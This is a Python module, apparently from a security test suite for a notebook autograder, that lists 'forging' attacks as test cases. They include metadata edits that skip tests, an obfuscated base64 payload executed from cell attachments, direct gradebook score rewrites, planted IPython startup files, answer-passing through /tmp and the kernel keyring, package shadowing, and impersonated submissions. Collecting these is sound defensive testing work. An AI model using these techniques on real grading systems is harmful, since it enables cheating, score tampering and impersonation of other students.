"""Forging by what the file says about itself, and by taking somebody else's points."""

import base64
import io
import zipfile
from dataclasses import replace

from attacks.attack import NOTEBOOK, Attack, Files, Link, Sheet
from attacks.evidence import forged, impersonated, unrepaired
from attacks.patching import patched
from attacks.target import Target

RIGHT = 6.0


# --- what the file says about itself ------------------------------------------------------------


def skip_tag(t: Target) -> Sheet:
    sheet = t.sheet()
    for cell in sheet.tests():
        cell["metadata"]["tags"] = ["skip-execution"]
    return sheet


def manual_flip(t: Target) -> Sheet:
    sheet = t.sheet(chart="drawn = {}")
    sheet.cell("chart")["metadata"]["nbgrader"]["solution"] = False
    return sheet


def deleted(t: Target) -> Sheet:
    sheet = t.full()
    for grade_id in ("setup", "churn_rate_hidden"):
        sheet.content["cells"].remove(sheet.cell(grade_id))
    return sheet


def reordered(t: Target) -> Sheet:
    sheet = t.full()
    tests = list(sheet.tests())
    sheet.content["cells"].sort(key=lambda cell: cell not in tests)
    return sheet


def retyped(t: Target) -> Sheet:
    sheet = t.full()
    for cell in sheet.tests():
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
    return sheet


def second_cell(t: Target) -> Sheet:
    about = {"grade": False, "grade_id": "churn_rate_hidden", "locked": False, "solution": True,
             "schema_version": 3, "task": False}  # fmt: skip
    return t.full().add("pass", "totals_hidden", metadata={"nbgrader": about})


def stripped(t: Target) -> Sheet:
    sheet = t.full()
    for cell in sheet.content["cells"]:
        cell["metadata"].pop("nbgrader")
    return sheet


def copied_solution(t: Target) -> Sheet:
    """Keep an older copy of an answer, marked as the answer, behind the real one."""
    sheet = t.full()
    older = sheet.cell("totals") | {"id": "older", "source": "def totals(base):\n    return None"}
    sheet.content["cells"].insert(sheet.content["cells"].index(sheet.cell("totals")) + 1, older)
    return sheet


HIDDEN_CODE = "from cvmgrade import checks\nchecks.close = checks.require = lambda *a, **k: None"
LOADER = """
import base64
for path in glob.glob('*.ipynb'):
    for cell in json.load(open(path))['cells']:
        for held in cell.get('attachments', {}).values():
            exec(base64.b64decode(''.join(held['text/plain'])).decode())
"""


def attachment(t: Target) -> Sheet:
    held = {"note.txt": {"text/plain": base64.b64encode(HIDDEN_CODE.encode()).decode()}}
    sheet = t.sheet().add("My notes.", "setup", "markdown", attachments=held)
    return sheet.add(t.facts() + LOADER, "q1")


FILE = [
    Attack("skip-tag", "cell tags and metadata", skip_tag, forged, exact=True),
    Attack("manual-flip", "flipping a manual cell", manual_flip, forged, exact=True),
    Attack("deleted", "deleting cells", deleted, unrepaired, RIGHT, exact=True),
    Attack("reordered", "re-ordering cells", reordered, unrepaired, RIGHT, exact=True),
    Attack("retyped", "re-typing cells", retyped, unrepaired, RIGHT, exact=True),
    Attack("second-cell", "duplicating cells", second_cell, unrepaired, RIGHT, exact=True),
    Attack("stripped", "cell metadata removed", stripped, unrepaired, RIGHT, exact=True),
    Attack("attachment", "hidden code in attachments", attachment, forged),
]

# --- somebody else's points ---------------------------------------------------------------------

GRADEBOOK = """
import sqlite3
with sqlite3.connect(t.gradebook, timeout=1) as book:
    book.execute('UPDATE grade SET manual_score = 700, needs_manual_grade = 0')
"""
STARTUP = """
home = os.path.expanduser('~/.ipython/profile_default/startup')
os.makedirs(home, exist_ok=True)
with open(home + '/00.py', 'w') as file:
    file.write('from cvmgrade import checks\\n'
               'checks.close = checks.require = lambda *a, **k: None')
"""


def accomplice(t: Target) -> Files:
    """Leave the right answers in /tmp for a friend, who is graded later."""
    place = f"/tmp/{t.root.parent.name}-{t.canaries.secret[:8]}.py"  # noqa: S108 - it is the trick
    leave = f"open({place!r}, 'w').write({chr(10).join(t.reference.values())!r})"
    take = f"exec(open({place!r}).read()); os.unlink({place!r})"
    friend = t.sheet().add(t.facts() + take, "totals")
    return t.sheet().add(t.facts() + leave).files("left-in-tmp") | friend.files("left-in-tmp-2")


KEYS = """
libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
add_key, keyctl = t.key_calls
"""
PUT_KEY = """
libc.syscall(add_key, b'user', b'for-a-friend', answers, len(answers), -3)
"""
GET_KEY = """
key = libc.syscall(keyctl, 10, -3, b'user', b'for-a-friend', 0)
held = ctypes.create_string_buffer(20_000)
if key > 0:
    size = libc.syscall(keyctl, 11, key, held, len(held))
    exec(held.raw[:size].decode())
"""


def keyring(t: Target) -> Files:
    """Leave the right answers in the session's keyring for a friend."""
    answers = f"answers = {chr(10).join(t.reference.values()).encode()!r}"
    put = t.sheet().add(t.facts() + KEYS + answers + PUT_KEY)
    take = t.sheet().add(t.facts() + KEYS + GET_KEY, "totals")
    return put.files("keyring") | take.files("keyring-2")


def startup(t: Target) -> Files:
    """Plant a file that runs when the next kernel starts."""
    return (t.sheet().add(t.facts() + STARTUP).files("startup-file")
            | t.sheet().files("startup-file-2"))  # fmt: skip


def shadow(t: Target) -> Files:
    """Lay a package of the same name beside the notebook."""
    fake = b"def close(*a, **k): pass\nrequire = visible_passed = close\n"
    return t.sheet().files("shadow-package") | {
        "shadow-package/cvmgrade/__init__.py": b"",
        "shadow-package/cvmgrade/checks.py": fake,
    }


def linked(t: Target) -> Files:
    """Hand in a link to the work of somebody else."""
    return {f"linked-notebook/{NOTEBOOK}": Link(f"{t.submitted}/aa-neighbour/0-3/{NOTEBOOK}")}


def impersonate(t: Target) -> Files:
    """Hand in a bad notebook in the name of somebody else, from inside one's own zip."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"zz-neighbour/{NOTEBOOK}", t.sheet().text())
    return {"impersonate.zip": packed.getvalue()}


OTHERS = [
    Attack("gradebook-points", "raised points in the gradebook", patched(GRADEBOOK), forged),
    Attack("startup-file", "a start-up file left for the next kernel", startup, forged,
           learners=("startup-file", "startup-file-2")),
    Attack("left-in-tmp", "answers left for an accomplice", accomplice, forged,
           learners=("left-in-tmp", "left-in-tmp-2")),
    Attack("keyring", "answers left for an accomplice in the keyring", keyring, forged,
           learners=("keyring", "keyring-2")),
    Attack("shadow-package", "a package of the same name in the submission", shadow, forged),
    Attack("linked-notebook", "symlink to another submission", linked, forged, 0,
           ends=frozenset({"refused"}), says="symbolic link"),
    Attack("impersonate", "a submission in another's name", impersonate, impersonated,
           learners=("zz-neighbour",), honest=RIGHT, alone=True,
           ends=frozenset({"graded", "refused"})),
]  # fmt: skip

ATTACKS = [replace(attack, family="forging") for attack in (*FILE, *OTHERS)]
